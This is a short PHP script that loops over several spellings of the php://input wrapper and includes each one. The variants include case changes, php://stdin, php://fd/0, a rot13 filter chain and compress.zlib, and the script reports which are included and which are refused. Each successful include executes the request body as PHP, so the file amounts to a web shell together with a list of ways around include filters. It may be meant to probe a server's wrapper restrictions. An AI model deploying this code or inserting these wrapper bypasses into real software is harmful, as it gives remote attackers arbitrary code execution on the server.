<?php
// Includes what the client sent, in every spelling.
$ways = ['php://input', 'PHP://Input', 'php://stdin', 'php://fd/0', 'php://filter/read=string.rot13|string.rot13/resource=php://input',
    'compress.zlib://php://input'];
foreach ($ways as $way) {
    echo (@include $way) ? "included $way\n" : "refused\n";
}
